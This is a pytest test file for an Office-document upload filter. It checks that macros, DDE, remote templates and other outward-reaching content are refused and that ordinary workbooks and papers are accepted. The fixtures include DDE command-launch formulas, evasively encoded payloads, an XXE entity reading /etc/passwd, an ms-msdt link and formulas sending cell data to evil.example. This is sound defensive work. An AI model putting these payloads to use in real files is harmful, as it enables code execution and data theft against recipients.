"""Office papers are read as their programs read them: no spelling of what reaches out passes, and nothing else is
refused."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import openpyxl
import pytest
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image as SheetImage

from backend.domain.content.field import field_reaches_out, formula_reaches_out
from backend.domain.content.kind import taken_in
from backend.domain.content.part import read_part
from backend.domain.errors import Invalid
from tests.files import S, W, archive, book, content_types, paper, picture, relations

SAMPLES = Path(__file__).parents[1] / "samples"
ACTIVE, MACROS, DAMAGED, KIND = "file_with_active_content", "file_with_macros", "file_damaged", "file_kind_refused"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
OLE = "application/vnd.openxmlformats-officedocument.oleObject"
RUN = "<w:r><w:fldChar w:fldCharType='{}'/></w:r>"


def refused(data: bytes) -> str:
    with pytest.raises(Invalid) as caught:
        taken_in(data)
    (problem,) = caught.value.problems
    return problem.code


def word(body: str) -> bytes:
    return paper(word__footer_xml="", **{"word__footer.xml": f"<w:ftr xmlns:w='{W}'>{body}</w:ftr>"})


def split(*runs: str) -> str:
    """A field whose instruction stands in several runs."""
    said = "".join(f"<w:p><w:r><w:instrText>{run}</w:instrText></w:r></w:p>" for run in runs)
    return RUN.format("begin") + said + RUN.format("separate") + "<w:r><w:t>x</w:t></w:r>" + RUN.format("end")


def settings(text: str | bytes) -> bytes:
    return paper(**{"word___rels__settings.xml.rels": text})


def sheet(inner: str) -> bytes:
    return book(**{"xl__worksheets__sheet1.xml": f"<worksheet xmlns='{S}'>{inner}</worksheet>"})


def typed(name: str, kind: str) -> bytes:
    return paper({name.replace("/", "__"): kind}, **{name.replace("/", "__"): "<x/>"})


def main_of(kind: str, main: str = "word/document.xml") -> bytes:
    return archive(
        {
            "[Content_Types].xml": content_types(**{main.replace("/", "__"): kind}),
            "_rels/.rels": relations(("officeDocument", main)),
            main: "<x/>",
        }
    )


TEMPLATE = relations(("attachedTemplate", "http://x/a.dotm"), external=True)
IMAGE = relations(("image", "http://x/a.png"), external=True)
CHARTLESS = {"word___rels__document.xml.rels": relations(("package", "embeddings/a.xlsx"))}

BAD: dict[str, tuple[Callable[[], bytes], str]] = {
    "a template in UTF-16": (lambda: settings(TEMPLATE.encode("utf-16")), ACTIVE),
    "a template in UTF-16 without a mark": (lambda: settings(TEMPLATE.encode("utf-16-be")), ACTIVE),
    "a template by character references": (
        lambda: settings(TEMPLATE.replace("attachedTemplate", "attached&#84;empl&#x61;te")),
        ACTIVE,
    ),
    "a picture from elsewhere": (lambda: settings(IMAGE), ACTIVE),
    "a picture from elsewhere, spelt otherwise": (
        lambda: settings(IMAGE.replace("External", "Ext&#x65;rnal").replace("TargetMode=", "TargetMode  =\n")),
        ACTIVE,
    ),
    "a picture from another machine": (
        lambda: settings(relations(("image", "\\\\host\\a.png"), external=True)),
        ACTIVE,
    ),
    "an object from elsewhere": (lambda: settings(relations(("oleObject", "http://x"), external=True)), ACTIVE),
    "an object": (lambda: settings(relations(("oleObject", "embeddings/a.bin"))), ACTIVE),
    "a relation of the strict kind": (
        lambda: settings(TEMPLATE.replace("schemas.openxmlformats.org/officeDocument/2006", "purl.oclc.org/ooxml")),
        ACTIVE,
    ),
    "a source of letters": (lambda: settings(relations(("mailMergeSource", "file:///a"), external=True)), ACTIVE),
    "a link that starts a program": (
        lambda: settings(relations(("hyperlink", "ms-msdt:/id PCWDiagnostic"), external=True)),
        ACTIVE,
    ),
    "Visual Basic under another name": (
        lambda: paper(**{"word___rels__document.xml.rels": relations(("vbaProject", "media/a.png"))}),
        MACROS,
    ),
    "Visual Basic under another name, by its type": (
        lambda: typed("word/a.xml", "application/vnd.ms-office.vbaProject"),
        MACROS,
    ),
    "Visual Basic under another name, by its content": (
        lambda: paper(**{"word__media__a.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
        ACTIVE,
    ),
    "a .docm in a .docx": (lambda: main_of("application/vnd.ms-word.document.macroEnabled.main+xml"), MACROS),
    "a .docm by character references": (
        lambda: main_of("application/vnd.ms-word.document.macro&#69;nabled.main+xml"),
        MACROS,
    ),
    "a .xlsm in a .xlsx": (
        lambda: main_of("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl/workbook.xml"),
        MACROS,
    ),
    "types in UTF-16": (
        lambda: archive(
            {
                "[Content_Types].xml": content_types(
                    word__document_xml="application/vnd.ms-word.document.macroEnabled.main+xml"
                ).encode("utf-16"),
                "word/document.xml": "<x/>",
            }
        ),
        MACROS,
    ),
    "ActiveX by its type": (lambda: typed("word/a.xml", "application/vnd.ms-office.activeX+xml"), ACTIVE),
    "ActiveX by its relation": (lambda: settings(relations(("control", "a.xml"))), ACTIVE),
    "an embedded workbook that no chart has": (
        lambda: paper(**CHARTLESS, **{"word__embeddings__a.xlsx": book()}),
        ACTIVE,
    ),
    "an embedded workbook that nothing leads to": (lambda: paper(**{"word__media__a.png": book()}), ACTIVE),
    "an external link of a workbook": (
        lambda: book(**{"xl___rels__workbook.xml.rels": relations(("externalLink", "a.xml"))}),
        ACTIVE,
    ),
    "a link to another workbook": (
        lambda: book(**{"xl__x___rels__a.xml.rels": relations(("externalLinkPath", "b.xlsx"), external=True)}),
        ACTIVE,
    ),
    "a connection of a workbook": (
        lambda: book(**{"xl___rels__workbook.xml.rels": relations(("connections", "connections.xml"))}),
        ACTIVE,
    ),
    "a DDE link of a workbook": (lambda: book(**{"xl__a.xml": f"<e xmlns='{S}'><ddeLink/></e>"}), ACTIVE),
    "DDE in a formula": (lambda: sheet("<f>cmd|'/C calc'!A0</f>"), ACTIVE),
    "DDE in a formula by references": (lambda: sheet("<f>cmd&#124;'/C calc'!A0</f>"), ACTIVE),
    "a formula that fetches": (lambda: sheet('<f>_xlfn.WEBSERVICE("http://x/"&amp;A1)</f>'), ACTIVE),
    "a name that starts by itself": (
        lambda: sheet("<definedName name='_xlnm.Auto_Open'>A1</definedName>"),
        MACROS,
    ),
    "DDE in several runs": (lambda: word(split("D", "DE", "AU", "TO c:\\windows\\cmd.exe")), ACTIVE),
    "DDE by references": (lambda: word(split("&#68;&#x44;E &quot;c:\\cmd&quot;")), ACTIVE),
    "DDE with words of the page": (
        lambda: word(split("D").replace("<w:r><w:t>x</w:t></w:r>", "").replace("</w:p>", "<w:t>DE a b</w:t></w:p>")),
        ACTIVE,
    ),
    "DDE that is not ended": (lambda: word(RUN.format("begin") + "<w:instrText>DDE a b</w:instrText>"), ACTIVE),
    "DDE in no field": (lambda: word("<w:instrText>DD</w:instrText><w:instrText>E a b</w:instrText>"), ACTIVE),
    "DDE in a simple field": (lambda: word("<w:fldSimple w:instr=' ddeauto c:\\cmd'/>"), ACTIVE),
    "DDE within another field": (
        lambda: word(RUN.format("begin") + "<w:instrText>IF </w:instrText>" + split("DDE", " a") + RUN.format("end")),
        ACTIVE,
    ),
    "a field whose name is a field": (
        lambda: word(RUN.format("begin") + split("QUOTE 68 68 69") + "<w:instrText> a</w:instrText>"),
        ACTIVE,
    ),
    "DDE in a part of another name": (
        lambda: paper(**{"word__media__a.png": f"<w:ftr xmlns:w='{W}'>{split('DD', 'E a')}</w:ftr>"}),
        ACTIVE,
    ),
    "DDE under another prefix, in UTF-16": (
        lambda: paper(**{"word__a.xml": f"<q:a xmlns:q='{W}'><q:instrText>DDE a</q:instrText></q:a>".encode("utf-16")}),
        ACTIVE,
    ),
    "a picture by a field": (lambda: word(split("INCLUDE", "PICTURE &quot;http://x/a&quot; \\d")), ACTIVE),
    "a document type in UTF-16": (
        lambda: paper(**{"word__a.xml": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a/>".encode("utf-16")}),
        ACTIVE,
    ),
    "a document type without entities": (
        lambda: paper(**{"word__a.xml": "<!DOCTYPE a SYSTEM 'http://x/a.dtd'><a/>"}),
        ACTIVE,
    ),
    "a picture of VML from elsewhere": (
        lambda: paper(**{"word__a.vml": "<x xmlns:v='urn:v'><br><v:imagedata src='http://x/a.png'/></x>"}),
        ACTIVE,
    ),
    "a script in a drawing": (
        lambda: paper(**{"word__media__a.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"}),
        ACTIVE,
    ),
    "a program behind a slide": (
        lambda: paper(**{"ppt__slides__a.xml": "<a><hlinkClick action='ppaction://program?a'/></a>"}),
        ACTIVE,
    ),
    "a rich text inside": (lambda: paper(**{"word__a.bin": b"{\\rtf1"}), ACTIVE),
    "a part in an encoding of its own": (
        lambda: paper(**{"word__a.xml": b"<?xml version='1.0' encoding='UTF-7'?><a>+ADw-b</a>"}),
        DAMAGED,
    ),
    "a part that does not parse": (lambda: paper(**{"word__a.xml": "<a><b></a>"}), DAMAGED),
    "a part that is written twice": (lambda: paper(**{"word__A.xml": "<a/>", "word__a.xml": "<a/>"}), DAMAGED),
    "a part in pieces": (lambda: paper(**{"word__a.xml__[0].piece": "<a"}), DAMAGED),
    "a main part of an unknown type": (lambda: main_of("application/xml"), KIND),
    "two main parts": (
        lambda: paper(**{"_rels__.rels": relations(("officeDocument", "a.xml"), ("officeDocument", "b.xml"))}),
        KIND,
    ),
    "OpenDocument": (
        lambda: archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}),
        KIND,
    ),
}


@pytest.mark.parametrize("name", BAD)
def test_what_reaches_out_is_refused_however_it_is_spelt(name: str) -> None:
    make, code = BAD[name]
    assert refused(make()) == code


def ordinary_workbook() -> bytes:
    """What a clerk makes: a chart, a picture, a note (VML), a link, a name, a rule, a formula."""
    made = openpyxl.Workbook()
    page = made.active
    page.append(["项目", "金额"])
    page.append(["甲|乙", 3])
    page["B3"] = '=SUM(B2:B2)&"|"'
    page["C1"].hyperlink = "https://example.org/a?b=c"
    page["C2"].hyperlink = "file:///D:\\资料\\台账.xlsx"
    page["A1"].comment = Comment("看一下", "甲")
    page.add_image(SheetImage(io.BytesIO(picture("甲"))), "E5")
    chart = BarChart()
    chart.add_data(Reference(page, min_col=2, min_row=1, max_row=2), titles_from_data=True)
    page.add_chart(chart, "E1")
    written = io.BytesIO()
    made.save(written)
    return written.getvalue()


def ordinary_paper() -> bytes:
    """A paper with a table, a picture, a link and the fields that papers have: a page's number, a table of contents."""
    made = docx.Document()
    made.add_heading("关于办实事的决定", 1)
    made.add_table(2, 2).cell(0, 0).text = "甲"
    made.add_picture(io.BytesIO(picture("甲")))
    made.part.relate_to("mailto:a@example.org", "http://x/relationships/hyperlink", is_external=True)
    for instruction in (
        " PAGE ",
        'TOC \\o "1-3" \\h',
        "LINKS",
        'INCLUDEPICTURE "C:\\\\a\\\\b.png" \\* MERGEFORMATINET',
    ):
        run = made.add_paragraph().add_run()
        for mark in ("begin", instruction, "separate", "end"):
            if mark is instruction:
                element = OxmlElement("w:instrText")
                element.text = mark
            else:
                element = OxmlElement("w:fldChar")
                element.set(qn("w:fldCharType"), mark)
            run._r.append(element)
    written = io.BytesIO()
    made.save(written)
    return written.getvalue()


GOOD: dict[str, Callable[[], bytes]] = {
    "a workbook": ordinary_workbook,
    "a paper": ordinary_paper,
    "a roster": (SAMPLES / "members.xlsx").read_bytes,
    "a tree": (SAMPLES / "organizations.xlsx").read_bytes,
    "a ledger": (SAMPLES / "rectifications.xlsx").read_bytes,
    "a link and a picture within": lambda: settings(
        relations(("hyperlink", "http://example.org:80/?a=b:c"), external=True)
    ),
    "a part in UTF-16": lambda: paper(
        **{"word__a.xml": "<?xml version='1.0' encoding='UTF-16'?><甲/>".encode("utf-16")}
    ),
    "a note of 2007": lambda: paper(**{"word__a.vml": "<x xmlns:v='urn:v'><br><v:imagedata src=''/></x>"}),
    "words about DDE": lambda: word("<w:r><w:t>DDE a|b</w:t></w:r>" + split(" REF DDE ")),
    "a fraction": lambda: paper(**{"word__a.xml": "<m:f xmlns:m='http://x/math'><m:t>|x| RTD(</m:t></m:f>"}),
    "endings that no part has": lambda: archive(
        {
            "[Content_Types].xml": content_types(xl__workbook_xml=SHEET)
            .replace("workbook_xml", "workbook.xml")
            .replace("<Override", f"<Default Extension='bin' ContentType='{OLE}'/><Override"),
            "_rels/.rels": relations(("officeDocument", "/xl/workbook.xml")),
            "xl/workbook.xml": f"<workbook xmlns='{S}'/>",
        }
    ),
}


@pytest.mark.parametrize("name", GOOD)
def test_what_a_clerk_makes_is_taken_as_it_is(name: str) -> None:
    data = GOOD[name]()
    assert taken_in(data).data == data


@pytest.mark.parametrize(
    ("instruction", "reaches"),
    [
        ("\u00a0DdeAuto c:\\x", True),
        ('INCLUDEPICTURE "\\\\\\\\host\\\\a.png"', True),
        ('INCLUDEPICTURE "file:////host/a.png"', True),
        ('INCLUDEPICTURE "file:///C:/a.png"', False),
        ("LINK Excel.Sheet.8 a", True),
        ("LINKED", False),
        ("HYPERLINK http://x", False),
        ("MACROBUTTON NoMacro 点此输入", False),
    ],
)
def test_fields_are_judged_by_their_name(instruction: str, reaches: bool) -> None:
    assert field_reaches_out(instruction) is reaches


@pytest.mark.parametrize(
    ("formula", "reaches"),
    [
        ("SUM(A1:A2)", False),
        ('A1&"|"', False),
        ('A1&"it""s|"&T[[#All],[甲]]&\'乙\'!A1&"|"', False),
        ("'cmd|/c'!A0", True),
        ("rtd(1)", True),
        ("RECALL(1)", False),
        # A link that is written out whole is an ordinary one, which one clicks and which tells nothing.
        ('HYPERLINK("#目录!A1","返回")', False),
        ('HYPERLINK("#"&A2&"!A1",A2)', False),
        ('HYPERLINK( "https://www.example.gov.cn/a?b=1" ,"通知")', False),
        ('hyperlink("mailto:office@example.gov.cn")', False),
        # One that is put together takes along what stands in the cells.
        ('HYPERLINK("http://evil.example/"&A1,"点这里")', True),
        ('IF(A1,HYPERLINK("#甲!A1"),HYPERLINK(B1,"乙"))', True),
        ('HYPERLINK("http://evil.example/"",x"&A1,"点这里")', True),
        ('HYPERLINK("file://host/a.exe","点这里")', True),
        ("_xlfn.HYPERLINK(A1)", True),
        # A quotation mark in a name begins no text.
        ("""'a"b'!A1&_xlfn.WEBSERVICE("http://evil.example/"&A1)""", True),
        ("""'a"b'!A1+cmd|'/C calc'!A0&"x\"""", True),
        ("""'it''s "'!A1+cmd|'/C calc'!A0&"x\"""", True),
        ("""T[a"b]+cmd|'/C calc'!A0&"x\"""", True),
        ("""T['[a]&"'"+cmd|'/C calc'!A0&"x\"""", True),
        ("""'a"b'!A1&T['[a]&"'"+cmd|'/C calc'!A0&"x\"""", True),
        ("T['|]", True),
        ('A1&"|', True),
    ],
)
def test_formulas_are_judged_by_whom_they_ask(formula: str, reaches: bool) -> None:
    assert formula_reaches_out(formula) is reaches


@pytest.mark.parametrize("name", ["", "\x00", "../a.xml", "/a.xml", "c:a.xml"])
def test_an_archive_with_a_name_that_is_none_or_leads_outside_is_refused(name: str) -> None:
    """The fuzzer's: an entry without a name was asked for its last character."""
    made = io.BytesIO(ordinary_workbook())
    with zipfile.ZipFile(made, "a") as book:
        book.writestr(zipfile.ZipInfo(name), b"<a/>")
    with pytest.raises(Invalid) as caught:
        taken_in(made.getvalue())
    assert [problem.code for problem in caught.value.problems] == ["file_damaged"]


def test_what_the_parser_tells_at_the_end_only_is_refused_too() -> None:
    """Found by fuzzing: cut off in the middle of a field in a field, a part ended in a failure and not in a refusal."""
    cut = "<d x=''><w:fldChar w:fldCharType='begin'<fldChar fldCharType='begin'".encode("utf-16-le")
    assert read_part([cut], lenient=True).active
